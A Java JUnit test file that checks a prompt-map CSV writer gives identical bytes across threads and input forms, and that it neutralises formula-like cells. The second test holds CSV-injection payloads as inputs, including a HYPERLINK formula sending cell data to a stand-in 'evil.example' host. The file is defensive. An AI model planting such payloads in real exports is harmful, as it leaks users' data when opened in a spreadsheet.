package org.admap.internal.map;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Random;
import org.admap.internal.csv.CsvCells;
import org.admap.internal.ingest.scan.JsonStrings;
import org.admap.model.MapPoint;
import org.admap.model.Region;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVPrinter;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * map.csv has the same bytes whether prompts come as Strings or as JSON literals, on one
 * thread or several, and they are commons-csv's with the numbers' shortest decimals.
 */
class MapCsvTest {

    private static final ObjectMapper JSON = new ObjectMapper();

    @TempDir
    Path tmp;

    @Test
    void literalsOrStringsOneThreadOrSeveralGiveTheBytesCommonsCsvWould() throws IOException {
        Random random = new Random(3);
        String[] shapes = {"plain prompt", "with, comma", "\"quoted\"", "#hash", " lead", "trail ", "two\nlines",
            "caf\u00e9 \u4e2d\u6587", "emoji \ud83d\ude00", "", "back\\slash", "\u0000nul", "tab\there"};
        int items = 5000;
        List<String> prompts = new ArrayList<>();
        List<byte[]> literals = new ArrayList<>();
        List<MapPoint> points = new ArrayList<>();
        for (int key = 0; key < items; key++) {
            String prompt = shapes[random.nextInt(shapes.length)] + (random.nextBoolean() ? " " + key : "");
            prompts.add(prompt);
            literals.add(JSON.writeValueAsBytes(prompt));
            if (key % 7 != 3) { // some items are not mapped
                double mean = random.nextInt(41) / 4.0;
                double variance = random.nextDouble() / 3;
                points.add(new MapPoint(key, "id-" + key, 1 + random.nextInt(5), mean, variance, Math.sqrt(variance),
                        Region.values()[key % 3], key % 11 == 0 ? Double.NaN : 1 - random.nextDouble() / 10));
            }
        }
        List<MapPoint> shuffled = new ArrayList<>(points);
        Collections.shuffle(shuffled, random);
        for (boolean withCorrelation : new boolean[] {true, false}) {
            byte[] expected = commonsCsv(prompts, points, withCorrelation);
            for (int threads : new int[] {1, 3}) {
                for (boolean asLiterals : new boolean[] {true, false}) {
                    Path file = tmp.resolve("map-" + withCorrelation + threads + asLiterals + ".csv");
                    MapCsv.write(items, chunks(items, 64, literals, asLiterals), threads, points, withCorrelation,
                            file);
                    assertThat(Files.readAllBytes(file)).as("threads %d, literals %s", threads, asLiterals)
                            .isEqualTo(expected);
                }
                // points listed out of key order: found through an index on a second pass
                Path file = tmp.resolve("shuffled-" + withCorrelation + threads + ".csv");
                MapCsv.write(items, chunks(items, 64, literals, true), threads, shuffled, withCorrelation, file);
                assertThat(Files.readAllBytes(file)).as("shuffled, threads %d", threads).isEqualTo(expected);
                assertThat(tmp).isDirectoryNotContaining("glob:**.tmp");
            }
        }
    }

    @Test
    void cellsThatASpreadsheetWouldRunAsFormulasGetALeadingQuoteOnEveryPathButNumbersNever() throws IOException {
        String[] prompts = {"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1)",
            "\tlead tab", "\rlead cr", "plain", "a=b", "'already", "-"};
        String[] ids = {"=id", "+id", "-1", "@id", "\tid", "\rid", "id-6", "id=7", "'id", "-"};
        List<byte[]> literals = new ArrayList<>();
        List<MapPoint> points = new ArrayList<>();
        for (int key = 0; key < prompts.length; key++) {
            literals.add(JSON.writeValueAsBytes(prompts[key]));
            points.add(new MapPoint(key, ids[key], 2, -0.5, 0.25, 0.5, Region.HIGH_AVG, -1.0 / 3));
        }
        // an escaped first character (a u-escape of the equals sign, an escaped tab) as a JSON writer may give it
        literals.set(0, "\"\\u003dHYPERLINK(\\\"http://evil.example/?x=\\\"&A1,\\\"click\\\")\"".getBytes(StandardCharsets.UTF_8));
        literals.set(4, "\"\\tlead tab\"".getBytes(StandardCharsets.UTF_8));
        assertThat(JsonStrings.at(literals.get(0), 0, literals.get(0).length)).isEqualTo(prompts[0]);
        List<String> neutralised = new ArrayList<>();
        List<String> raw = new ArrayList<>();
        List<MapPoint> neutralisedPoints = new ArrayList<>();
        for (int key = 0; key < prompts.length; key++) {
            raw.add(prompts[key]);
            neutralised.add(org.admap.internal.csv.CsvCells.NEUTRALISED.text(prompts[key]));
            MapPoint p = points.get(key);
            neutralisedPoints.add(new MapPoint(key, CsvCells.NEUTRALISED.text(p.id()), p.n(), p.mean(),
                    p.variance(), p.std(), p.region(), p.correlation()));
        }
        assertThat(neutralised.get(0)).startsWith("'=HYPERLINK");
        assertThat(neutralised.subList(6, 10)).containsExactly("plain", "a=b", "'already", "'-");
        byte[] expectNeutralised = commonsCsv(neutralised, neutralisedPoints, true);
        byte[] expectRaw = commonsCsv(raw, points, true);
        for (boolean asLiterals : new boolean[] {true, false}) {
            Path file = tmp.resolve("hostile-" + asLiterals + ".csv");
            MapCsv.write(prompts.length, chunks(prompts.length, 4, literals, asLiterals, ids), 2, points, true, false,
                    org.admap.internal.csv.CsvCells.NEUTRALISED, file);
            assertThat(Files.readAllBytes(file)).as("literals %s", asLiterals).isEqualTo(expectNeutralised);
            String text = Files.readString(file);
            assertThat(text).contains("'=HYPERLINK").contains(",-0.5,0.25,0.5,high-avg,-0.3333333333333333\r\n")
                    .doesNotContain(",=").doesNotContain("\n=").doesNotContain(",\"=");
            MapCsv.write(prompts.length, chunks(prompts.length, 4, literals, asLiterals, ids), 2, points, true, false,
                    org.admap.internal.csv.CsvCells.RAW, file);
            assertThat(Files.readAllBytes(file)).as("raw, literals %s", asLiterals).isEqualTo(expectRaw);
        }
    }

    /** Chunks of {@code size} items whose prompts are given as literals or as decoded Strings. */
    private static MapCsv.PromptChunks chunks(int items, int size, List<byte[]> literals, boolean asLiterals) {
        return chunks(items, size, literals, asLiterals, null);
    }

    /** {@link #chunks(int, int, List, boolean)} with these ids (null: id-KEY). */
    private static MapCsv.PromptChunks chunks(int items, int size, List<byte[]> literals, boolean asLiterals,
                                              String[] ids) {
        return new MapCsv.PromptChunks() {
            @Override
            public int count() {
                return (items + size - 1) / size;
            }

            @Override
            public void forEach(int chunk, MapCsv.Prompts.Row row) throws IOException {
                for (int key = chunk * size; key < Math.min(items, (chunk + 1) * size); key++) {
                    byte[] literal = literals.get(key);
                    String id = ids == null ? "id-" + key : ids[key];
                    if (asLiterals) {
                        row.acceptLiteral(key, id, literal, 0, literal.length);
                    } else {
                        row.accept(key, id, JsonStrings.at(literal, 0, literal.length));
                    }
                }
            }
        };
    }

    /** What commons-csv writes for the map, numbers in JDK 19's Double.toString (Schubfach). */
    private static byte[] commonsCsv(List<String> prompts, List<MapPoint> points, boolean withCorrelation)
            throws IOException {
        StringBuilder sb = new StringBuilder();
        String[] header = withCorrelation
                ? new String[] {"id", "prompt", "n", "mean", "variance", "std", "region", "correlation"}
                : new String[] {"id", "prompt", "n", "mean", "variance", "std", "region"};
        try (CSVPrinter csv = new CSVPrinter(sb, CSVFormat.RFC4180.builder().setHeader(header).get())) {
            for (MapPoint p : points) {
                List<Object> row = new ArrayList<>(List.of(p.id(), prompts.get(p.key()), p.n(), text(p.mean()),
                        text(p.variance()), text(p.std()), p.region().cliName()));
                if (withCorrelation) {
                    row.add(Double.isNaN(p.correlation()) ? "" : text(p.correlation()));
                }
                csv.printRecord(row);
            }
        }
        return sb.toString().getBytes(StandardCharsets.UTF_8);
    }

    private static String text(double x) {
        return com.fasterxml.jackson.core.io.NumberOutput.toString(x, true);
    }
}
